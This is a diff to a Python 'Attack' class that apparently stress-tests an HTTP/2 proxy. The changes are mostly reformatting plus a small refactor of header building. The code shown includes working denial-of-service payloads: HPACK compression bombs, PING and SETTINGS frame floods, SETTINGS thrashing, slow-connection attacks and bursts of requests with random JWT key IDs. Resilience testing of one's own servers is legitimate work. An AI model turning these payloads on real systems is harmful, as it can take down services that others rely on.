@@ -72,7 +72,9 @@ class Attack:
             for _ in range(50):
                 header = json.dumps({"alg": "RS256", "typ": "JWT", "kid": "ins_" + os.urandom(14).hex()})
                 encoded = base64.urlsafe_b64encode(header.encode()).rstrip(b"=").decode()
-                asks.append(f"GET /a HTTP/1.1\r\nhost: p\r\nauthorization: Bearer {encoded}.{payload}.{signature}\r\n\r\n")
+                asks.append(
+                    f"GET /a HTTP/1.1\r\nhost: p\r\nauthorization: Bearer {encoded}.{payload}.{signature}\r\n\r\n"
+                )
             writer.write("".join(asks).encode())
             for _ in asks:
                 await self.refused(reader)
@@ -89,7 +91,9 @@ class Attack:
         while not attack.done():
             await asyncio.wait([attack], timeout=0.25)
             most = max(most, self.done["open"])
-        self.done = collections.Counter({"attacks": self.done["attacks"], "at a time": most, "closed on us": self.done["cut off"]})
+        self.done = collections.Counter(
+            {"attacks": self.done["attacks"], "at a time": most, "closed on us": self.done["cut off"]}
+        )
 
     async def slow(self, reader, writer, number):
         """Half are slow in their heads, and half in bodies that the backend waits for."""
@@ -151,10 +155,11 @@ class Attack:
         writer.write(PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, window)))
         await writer.drain()
 
-    def head(self):
+    def head(self, authorized=True):
         """A head that is the same bytes each time: nothing of it is remembered."""
         fields = {":method": "GET", ":scheme": "http", ":authority": "p", ":path": "/echo"}
-        fields["authorization"] = f"Bearer {self.token}"
+        if authorized:
+            fields["authorization"] = f"Bearer {self.token}"
         return Encoder().encode([NeverIndexedHeaderTuple(*field) for field in fields.items()])
 
     async def flooded(self, reader, writer, of, read=True):
@@ -217,8 +222,8 @@ class Attack:
         await self.many(4, one)
 
     async def hpack_bombs(self):
-        """A field of nothing, or of 4 KiB, is remembered, and named thousands of times by a byte each; nothing is read."""
-        plain = Encoder().encode([NeverIndexedHeaderTuple(*f) for f in [(":method", "GET"), (":scheme", "http"), (":authority", "p"), (":path", "/echo")]])
+        """A field of nothing, or of 4 KiB, is remembered, and named thousands of times by a byte each."""
+        plain = self.head(authorized=False)
         bombs = [
             plain + b"\x40\x01a\x00" + b"\xbe" * 16000,
             plain + b"\x40\x06cookie\x00" + b"\xbe" * 16000,
@@ -248,12 +253,16 @@ class Attack:
     async def pings_and_settings(self):
         ping = frame(PING, 0, 0, bytes(8)) * 100
         settings = frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 1)) * 100
-        thrash = (frame(SETTINGS, 0, 0, struct.pack(">HI", 1, 0)) + frame(SETTINGS, 0, 0, struct.pack(">HI", 1, 0xFFFFFFFF))) * 50
+        thrash = (
+            frame(SETTINGS, 0, 0, struct.pack(">HI", 1, 0)) + frame(SETTINGS, 0, 0, struct.pack(">HI", 1, 0xFFFFFFFF))
+        ) * 50
 
         async def one(reader, writer, number):
             """Half of them read the answers, and half do not."""
             await self.speak(writer)
-            await self.flooded(reader, writer, lambda: ([ping, settings, thrash][number % 3], 100), read=number % 2 == 0)
+            await self.flooded(
+                reader, writer, lambda: ([ping, settings, thrash][number % 3], 100), read=number % 2 == 0
+            )
 
         await self.many(6, one)
 
